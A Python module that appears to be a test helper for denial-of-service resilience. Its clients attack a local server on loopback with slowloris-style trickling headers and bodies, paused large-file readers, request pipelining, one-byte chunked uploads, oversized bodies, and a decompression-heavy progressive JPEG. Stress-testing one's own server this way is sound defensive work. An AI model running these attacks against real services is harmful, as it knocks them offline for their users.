"""Clients that mean no good: each does one thing to a server for as long as it is held. Loopback only; Linux only."""

from __future__ import annotations

import contextlib
import io
import socket
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from PIL import Image

_ESTABLISHED = 1
_PAUSED_AFTER = 1_000_000
_PIPELINED = 176
_TICK_SECONDS = 0.05
_CHUNKS_PER_TICK = 50_000 // 6
_SCANS = 3_000
_BODY = 156_000_000
"""A body in multipart that the default limit of 100 MB lets through, base64 being a third longer and more."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """A server, and what is there to ask for."""

    port: int
    key: str
    large_file: str
    """The path of a file of some 40 MB."""
    page: str
    """The path of a page."""


@dataclass
class Attack:
    """What is under way."""

    sockets: list[socket.socket] = field(default_factory=list)
    ended: threading.Event = field(default_factory=threading.Event)
    threads: list[threading.Thread] = field(default_factory=list)

    def alive(self) -> int:
        """Count the connections that the server has not closed."""
        return sum(map(_is_established, self.sockets))

    def connect(self, target: Target) -> socket.socket | None:
        """Open a connection, if the server still takes one."""
        made = socket.socket()
        self.sockets.append(made)
        made.settimeout(10)
        try:
            made.connect(("127.0.0.1", target.port))
        except OSError:
            return None
        return made

    def in_background(self, run: Callable[[], None]) -> None:
        """Do something until the end, and no more when the server ends it."""

        def work() -> None:
            with contextlib.suppress(OSError):
                run()

        self.threads.append(threading.Thread(target=work, daemon=True))
        self.threads[-1].start()

    def close(self) -> None:
        """End it."""
        self.ended.set()
        for one in self.sockets:
            with contextlib.suppress(OSError):
                one.shutdown(socket.SHUT_RDWR)
        for thread in self.threads:
            thread.join(30)
        for one in self.sockets:
            one.close()


def _is_established(one: socket.socket) -> bool:
    try:
        return one.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == _ESTABLISHED
    except OSError:
        return False


def paused_readers(attack: Attack, target: Target, count: int) -> None:
    """Ask for a large file, as players do, read a megabyte of it, and then nothing."""
    request = f"GET {target.large_file} HTTP/1.1\r\nHost: 127.0.0.1\r\nRange: bytes=0-\r\n\r\n".encode()

    def read(one: socket.socket) -> None:
        read_bytes = 0
        while read_bytes < _PAUSED_AFTER and (piece := one.recv(65_536)):
            read_bytes += len(piece)

    for _ in range(count):
        if one := attack.connect(target):
            one.sendall(request)
            attack.in_background(lambda one=one: read(one))  # type: ignore[misc]


def pipeliners(attack: Attack, target: Target, count: int) -> None:
    """Ask for a page many times in one breath, and read nothing."""
    request = f"GET {target.page} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode() * _PIPELINED
    for _ in range(count):
        if one := attack.connect(target):
            one.sendall(request)


def tiny_chunks(attack: Attack, target: Target, count: int) -> None:
    """Send a body in chunks of one byte, a megabyte a second of them on each connection."""
    head = (
        f"POST /api/1/upload HTTP/1.1\r\nHost: 127.0.0.1\r\nX-API-Key: {target.key}\r\nTransfer-Encoding: chunked\r\n"
    )
    head += "Content-Type: multipart/form-data; boundary=b\r\n\r\n"
    chunks = b"1\r\nx\r\n" * _CHUNKS_PER_TICK
    for _ in range(count):
        if one := attack.connect(target):
            one.sendall(head.encode())
            attack.in_background(lambda one=one: _repeat(attack, one, chunks))  # type: ignore[misc]


def _repeat(attack: Attack, one: socket.socket, data: bytes) -> None:
    """Send the same again and again, not faster than once a tick."""
    while not attack.ended.is_set():
        started = time.monotonic()
        one.sendall(data)
        attack.ended.wait(max(0.0, started + _TICK_SECONDS - time.monotonic()))


def large_bodies(attack: Attack, target: Target, count: int) -> None:
    """Send the largest body that is taken, without a key, and keep its last byte."""
    head = f"POST /api/1/upload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {_BODY}\r\n"
    head += "Content-Type: application/x-www-form-urlencoded\r\n\r\nsource="

    def send(one: socket.socket) -> None:
        one.sendall(head.encode())
        piece = b"A" * 1_000_000
        for _ in range(_BODY // len(piece) - 1):
            one.sendall(piece)
        while not attack.ended.wait(1):
            one.sendall(b"A")

    for _ in range(count):
        if one := attack.connect(target):
            attack.in_background(lambda one=one: send(one))  # type: ignore[misc]


def trickling(attack: Attack, target: Target, count: int) -> None:
    """Begin a request on each connection, and go on with a byte a second."""
    opened = [one for _ in range(count) if (one := attack.connect(target))]

    def trickle() -> None:
        for one in opened:
            with contextlib.suppress(OSError):
                one.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ")
        while not attack.ended.wait(1):
            for one in opened:
                with contextlib.suppress(OSError):
                    one.sendall(b"x")

    attack.in_background(trickle)


def trickling_bodies(attack: Attack, target: Target, count: int) -> None:
    """The same with bodies."""
    opened = [one for _ in range(count) if (one := attack.connect(target))]
    head = b"POST /api/1/upload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100000\r\n\r\n"

    def trickle() -> None:
        for one in opened:
            with contextlib.suppress(OSError):
                one.sendall(head)
        while not attack.ended.wait(1):
            for one in opened:
                with contextlib.suppress(OSError):
                    one.sendall(b"x")

    attack.in_background(trickle)


def many_scans(attack: Attack, target: Target, count: int) -> None:
    """Upload a progressive JPEG whose many scans each pass over all of the picture, again and again."""
    content = scans()
    body = (
        b'--b\r\nContent-Disposition: form-data; name="source"; filename="a.jpg"\r\n\r\n' + content + b"\r\n--b--\r\n"
    )
    head = f"POST /api/1/upload HTTP/1.1\r\nHost: 127.0.0.1\r\nX-API-Key: {target.key}\r\nConnection: close\r\n"
    head += f"Content-Type: multipart/form-data; boundary=b\r\nContent-Length: {len(body)}\r\n\r\n"

    def send() -> None:
        while not attack.ended.is_set():
            one = attack.connect(target)
            if one is None:
                attack.ended.wait(_TICK_SECONDS)
                continue
            one.settimeout(120)
            with contextlib.suppress(OSError):
                one.sendall(head.encode() + body)
                while one.recv(65_536):
                    pass

    for _ in range(count):
        attack.in_background(send)


def scans(count: int = _SCANS, size: tuple[int, int] = (4_000, 3_000)) -> bytes:
    """Encode a small file with a progressive JPEG of ``count`` scans."""
    file = io.BytesIO()
    Image.new("L", size, 128).save(file, "JPEG", progressive=True)
    content = file.getvalue()
    last = content.rindex(b"\xff\xda")
    # The tables before the last scan belong to it, and stay.
    return content[:last] + content[last:-2] * count + b"\xff\xd9"


ATTACKS: dict[str, tuple[Callable[[Attack, Target, int], None], int]] = {
    "paused readers": (paused_readers, 200),
    "pipeliners": (pipeliners, 50),
    "1-byte chunks": (tiny_chunks, 16),
    "large bodies": (large_bodies, 3),
    "trickling headers": (trickling, 1_005),
    "trickling bodies": (trickling_bodies, 1_005),
    "many scans": (many_scans, 16),
}
"""Each by its name, with how many clients do it."""


@contextlib.contextmanager
def attacking(name: str, target: Target, count: int | None = None) -> Iterator[Attack]:
    """Attack while the block runs."""
    begin, usual = ATTACKS[name]
    attack = Attack()
    try:
        begin(attack, target, usual if count is None else count)
        yield attack
    finally:
        attack.close()
